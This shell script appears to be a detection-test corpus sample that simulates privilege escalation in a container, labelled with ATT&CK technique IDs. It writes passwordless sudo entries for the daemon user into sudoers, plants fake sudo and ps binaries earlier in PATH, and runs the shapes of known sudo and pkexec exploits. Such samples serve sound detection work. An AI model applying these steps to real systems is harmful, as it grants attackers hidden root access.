#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): privilege-escalation steps. sudo, sudoedit and
# pkexec are busybox symlinks that print "applet not found"; /tmp/pwnkit is a copy of busybox;
# the sudoers and timestamp files are the container's own; the uevent helper write is refused
# (read-only /sys) and would write nothing anyway.

# T1548.003 Sudo and sudo caching
/usr/bin/sudo -l 2>/dev/null || true
/usr/bin/sudo -n true 2>/dev/null || true
/bin/mkdir -p /etc/sudoers.d /run/sudo/ts
echo 'daemon ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
echo 'daemon ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-kupdate
/bin/sed -i 's/^daemon .*/daemon ALL=(ALL:ALL) NOPASSWD: ALL/' /etc/sudoers
/bin/touch /run/sudo/ts/daemon

# T1574.007 PATH interception: fake sudo and ps in directories searched first
/bin/mkdir -p /usr/local/bin /usr/local/sbin
printf '#!/bin/sh\nexec /usr/bin/sudo "$@"\n' > /usr/local/bin/sudo
/bin/chmod 755 /usr/local/bin/sudo
printf '#!/bin/sh\nexec /bin/ps "$@"\n' > /tmp/.ps
/bin/ln -s /tmp/.ps /usr/local/sbin/ps

# T1068 Exploitation for privilege escalation (shapes only)
/pkexec-argc0 2>/dev/null || true
/usr/bin/sudo '-u#-1' /bin/sh -c id 2>/dev/null || true
/usr/bin/sudoedit -s '\' AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA 2>/dev/null || true
/bin/cp /bin/busybox /tmp/pwnkit && /tmp/pwnkit 2>/dev/null || true

# T1611 uevent helper (opened with nothing written: refused on the read-only /sys)
: > /sys/kernel/uevent_helper 2>/dev/null || true
echo "[corpus] privilege steps done"
exit 0
